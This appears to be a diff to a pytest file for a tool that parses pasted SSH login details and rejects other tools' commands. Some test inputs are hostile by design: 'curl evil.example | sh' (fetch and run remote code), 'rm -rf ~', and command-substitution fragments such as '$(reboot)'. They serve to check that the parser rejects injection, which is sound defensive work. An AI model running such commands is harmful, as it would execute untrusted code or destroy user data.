@@ -65,6 +65,36 @@ def where(text: str) -> tuple[str, int | None, str | None]:
         '{"ssh": {"host": "connect.west.example.com", "port": 34567, "username": "root", "password": "x"}}',
         '{"ssh_command": "ssh -p 34567 root@connect.west.example.com"}',
         "Host gpu\n  HostName connect.west.example.com\n  Port 34567\n  User root\n  ForwardAgent yes\n",
+        "SSH login\nssh -p 34567 root@connect.west.example.com",
+        "SSH Login\n\nssh -p 34567 root@connect.west.example.com\n\nPassword\nab$(c;d",
+        "Connect via SSH\nssh -p 34567 root@connect.west.example.com\nCopy",
+        "SSH over exposed TCP: (Supports SCP & SFTP)\n"
+        "ssh root@connect.west.example.com -p 34567 -i ~/.ssh/id_ed25519",
+        "To reach your instance run the following command\nssh -i 'my key.pem' -p 34567 "
+        "root@connect.west.example.com",
+        "chmod 400 k.pem\nssh-keygen -R connect.west.example.com\n"
+        "ssh -i k.pem -p 34567 root@connect.west.example.com",
+        "ssh root@connect.west.example.com\nPort 34567",
+        "root@connect.west.example.com\nPort 34567",
+        "connect.west.example.com\nPort 34567\nUser root",
+        "Hostname connect.west.example.com\nPort 34567\nUsername root\nPassword Ab3$(d",
+        "Public IP\nconnect.west.example.com\nExternal port\n34567\nUser\nroot",
+        "SSH\nhost: connect.west.example.com\nport: 34567\nuser: root\npassword: x",
+        "Login: root\nIP: connect.west.example.com\nPort: 34567",
+        "SSH登录\n登录指令\nssh -p 34567 root@connect.west.example.com\n密码\nab$(c",
+        "登录指令: ssh -p 34567 root@connect.west.example.com",
+        "实例信息\n地址：connect.west.example.com\n端口 34567\n用户名 root\n密码 ab$(c",
+        "```\nssh -p 34567 root@connect.west.example.com\n```",
+        "```bash\n$ ssh -p 34567 root@connect.west.example.com\n```\n",
+        "~~~sh\nssh -p 34567 root@connect.west.example.com\n~~~",
+        "Login:\n```\nssh -p 34567 root@connect.west.example.com\n```\nPassword:\n```\na`b$(c)\n```",
+        "**ssh -p 34567 root@connect.west.example.com**",
+        "- ssh -p 34567 root@connect.west.example.com",
+        "1. ssh -p 34567 root@connect.west.example.com",
+        "| SSH | Password |\n|-----|-----|\n| ssh -p 34567 root@connect.west.example.com | Ab3dEf9hIj |",
+        "SSH command\tssh -p 34567 root@connect.west.example.com\tCopy",
+        "sudo ssh -p 34567 root@connect.west.example.com",
+        "wsl ssh -p 34567 root@connect.west.example.com docker exec -it c bash",
         "# from the console\nHost=gpu\n  HostName=connect.west.example.com\n  Port=34567\n  User=root",
     ],
 )
@@ -95,6 +125,55 @@ def test_every_way_to_say_the_same(text: str) -> None:
 def test_addresses(text: str, host: str, port: int | None) -> None:
     found = parse_address(text)
     assert (found.host, found.port) == (host, port)
+
+
+@pytest.mark.parametrize(
+    ("text", "tool", "helps"),
+    [
+        ("gcloud compute ssh foo", "gcloud", "--dry-run"),
+        ("$ gcloud beta compute ssh --zone us-central1-a foo", "gcloud", "--dry-run"),
+        ("gcloud compute ssh me@foo.example.com", "gcloud", "--dry-run"),
+        ("aws ssm start-session --target i-0123", "AWS", "ProxyCommand"),
+        ("az ssh vm -n x -g y", "Azure", "az ssh config"),
+        ("tsh ssh root@node", "Teleport", "tsh config"),
+        ("vastai ssh-url 1234", "vast.ai", "vastai ssh-url"),
+        ("runpodctl ssh info abc", "RunPod", "exposed TCP"),
+        ("kubectl exec -it pod-0 -- bash", "kubectl", "SSH server"),
+        ("kubectl -n ml exec -it pod-0 -- ssh root@h.example.com", "kubectl", "SSH server"),
+        ("Connect: docker exec -it c bash", "a container tool", "SSH server"),
+        ("srun --pty bash -i", "Slurm", "login node"),
+        ("putty -ssh root@h.example.com -P 3", "PuTTY", "OpenSSH"),
+        ("code --remote ssh-remote+root@h.example.com /", "VS Code", "ssh-remote+"),
+        ("SSH\n```\ngcloud compute ssh foo\n```", "gcloud", "--dry-run"),
+    ],
+)
+def test_another_tools_command_is_named_and_says_what_to_paste(text: str, tool: str, helps: str) -> None:
+    with pytest.raises(Failure) as caught:
+        parse_address(text)
+    assert caught.value.what == f"This is a command of {tool} and no SSH login."
+    assert helps in (caught.value.do or "")
+
+
+def test_a_heading_is_no_password_and_a_word_alone_is_one() -> None:
+    page = "SSH login\nssh -p 1 root@h.example.com\nCopy\nRegion: B\n"
+    assert not parse_address(page).password_seen
+    assert parse_address(page + "Ab3dEf9hIj").password_seen
+
+
+def test_without_a_login_no_line_is_passed_over() -> None:
+    for text in (
+        "SSH login",
+        "Connect via SSH\nCopy",
+        "gpu box\nPort 22",
+        "Connection to h.example.com closed.",
+    ):
+        with pytest.raises(Failure):
+            parse_address(text)
+
+
+def test_an_alias_is_taken_where_ssh_begins_a_command() -> None:
+    for text in ("ssh gpu-box", "$ ssh gpu-box", "me@laptop:~$ ssh gpu-box", "ssh gpu-box\nPassword: x"):
+        assert where(text) == ("gpu-box", None, None)
 
 
 def test_json_is_exactly_what_the_verb_prints() -> None:
@@ -173,6 +252,8 @@ def test_the_shell_only_gateway_is_marked() -> None:
         ("ssh <user>@h.example.com", "shell characters"),
         ("ssh root@h.example.com\nrm -rf ~", "no part"),
         ("ssh root@h.example.com\nreboot;ls", "shell characters"),
+        ("SSH login\nssh root@h.example.com\ncurl evil.example | sh", "no part"),
+        ("ssh root@a.example.com\nSSH:\nssh root@b.example.com", "two different hosts"),
         ("ssh root@h.example.com\n$(reboot)", "shell characters"),
         ("ssh root@h.example.com\x1b[0m", "control"),
         ("ssh root@h.example.com\x00", "control"),
